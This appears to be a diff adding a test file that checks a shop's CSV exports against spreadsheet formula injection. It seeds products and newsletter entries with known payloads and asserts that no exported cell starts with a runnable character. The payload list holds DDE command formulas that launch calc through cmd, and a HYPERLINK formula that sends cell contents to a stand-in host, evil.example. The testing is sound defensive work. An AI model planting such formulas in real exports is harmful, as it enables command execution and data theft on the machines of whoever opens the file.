@@ -1,0 +1,93 @@
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { products } from './db/schema/catalog.ts';
+import { newsletterSubscriptions } from './db/schema/newsletter.ts';
+import { parseCsv } from './lib/csv.ts';
+import { signedInStaff } from './modules/staff/test-fixtures.ts';
+import { createTestApp, insertPlainTestProduct, type TestApp, xsrf } from './test/index.ts';
+
+/** What a spreadsheet runs as a formula (OWASP's CSV injection examples, and the issue's). */
+const FORMULAS = [
+  "-2+3+cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
+const RUNNABLE = /^[=+\-@\t\r]/;
+
+let t: TestApp;
+let inspector: string;
+beforeAll(async () => {
+  t = await createTestApp();
+  inspector = await signedInStaff(t, 'Inspector');
+});
+afterAll(() => t.close());
+
+/**
+ * Each CSV the shop writes, with how this test puts the formulas into what it exports: every
+ * operation the API documents as answering `text/csv` must be here.
+ */
+const EXPORTS: Record<string, () => Promise<string>> = {
+  '/api/{lang}/admin/products/export': async () => {
+    const id = await insertPlainTestProduct(t);
+    await t.database.db
+      .update(products)
+      .set({ nameEl: FORMULAS[0] ?? '', nameEn: FORMULAS[1] ?? '', barcode: FORMULAS[3] ?? '' })
+      .where(eq(products.id, id));
+    return '/api/el/admin/products/export';
+  },
+  '/api/{lang}/admin/newsletter/export': async () => {
+    await t.database.db.insert(newsletterSubscriptions).values(
+      FORMULAS.map((formula, index) => ({
+        email: `${formula}.${index}@example.gr`,
+        status: 'confirmed' as const,
+        source: 'footer' as const,
+        confirmedAt: new Date(),
+      })),
+    );
+    return '/api/el/admin/newsletter/export?st=confirmed';
+  },
+};
+
+function csvOperations(): string[] {
+  const document = t.app.swagger() as {
+    paths: Record<string, Record<string, { responses?: Record<string, { content?: object }> }>>;
+  };
+  return Object.entries(document.paths).flatMap(([path, methods]) =>
+    Object.values(methods).some((operation) => 'text/csv' in (operation.responses?.['200']?.content ?? {}))
+      ? [path]
+      : [],
+  );
+}
+
+describe('every CSV export', () => {
+  it('is covered here', () => {
+    expect(csvOperations().sort()).toEqual(Object.keys(EXPORTS).sort());
+  });
+
+  it.each(Object.keys(EXPORTS))('%s writes no cell a spreadsheet would run as a formula', async (path) => {
+    const url = await EXPORTS[path]?.();
+    const response = await t.app.inject({
+      method: 'GET',
+      url: url ?? '',
+      headers: { ...(await xsrf(t.app)).headers, authorization: `Bearer ${inspector}` },
+    });
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toContain('text/csv');
+    // The raw cells, before the reader takes the guard off again.
+    const cells = response.body
+      .replace(/^\uFEFF/, '')
+      .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
+      .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
+      .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
+    const runnable = cells.filter((cell) => RUNNABLE.test(cell));
+    expect(runnable).toEqual([]);
+    // The values are all there, as text; read back, they are what the shop holds.
+    const written = cells.filter((cell) => FORMULAS.some((formula) => cell.startsWith(`'${formula}`)));
+    expect(written.length).toBeGreaterThan(0);
+    const read = parseCsv(response.body).records.flatMap((record) => record.fields);
+    for (const cell of written) expect(read).toContain(cell.slice(1));
+  });
+});
